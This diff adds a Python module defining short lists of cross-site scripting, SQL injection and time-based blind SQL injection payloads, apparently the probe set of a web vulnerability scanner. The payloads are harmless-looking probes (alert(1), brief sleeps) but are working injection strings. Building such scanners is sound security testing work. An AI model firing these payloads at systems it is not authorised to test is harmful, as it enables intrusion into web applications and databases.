@@ -1,0 +1,40 @@
+"""The named lists of `payload`: few of each, every one for another place that the value may stand in."""
+
+PAYLOADS: "dict[str, tuple[str, ...]]" = {
+    "XSS": (
+        "<script>alert(1)</script>",
+        '"><svg onload=alert(1)>',
+        "'><img src=x onerror=alert(1)>",
+        '" onfocus=alert(1) autofocus x="',
+        "' onfocus=alert(1) autofocus x='",
+        "javascript:alert(1)",
+        "</script><script>alert(1)</script>",
+        "</title><svg onload=alert(1)>",
+        "</textarea><svg onload=alert(1)>",
+        "';alert(1)//",
+        '";alert(1)//',
+        "<svg/onload=alert(1)>",
+    ),
+    "SQLI": (
+        "'",
+        '"',
+        "' OR '1'='1",
+        "' OR '1'='1' -- ",
+        '" OR "1"="1',
+        "1 OR 1=1",
+        "1) OR (1=1",
+        "') OR ('1'='1",
+        "' UNION SELECT NULL -- ",
+        "1 UNION SELECT NULL",
+        "%' OR '%'='",
+        "name,(SELECT 1)",
+    ),
+    "SQLI_TIME": (
+        "'||(SELECT '' FROM pg_sleep(3))||'",
+        "1-(SELECT 0 FROM pg_sleep(3))",
+        "'+SLEEP(3)+'",
+        "1-SLEEP(3)",
+        "'; WAITFOR DELAY '0:0:3' -- ",
+        "'||(WITH RECURSIVE q(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM q WHERE x<9000000) SELECT count(x) FROM q)||'",
+    ),
+}
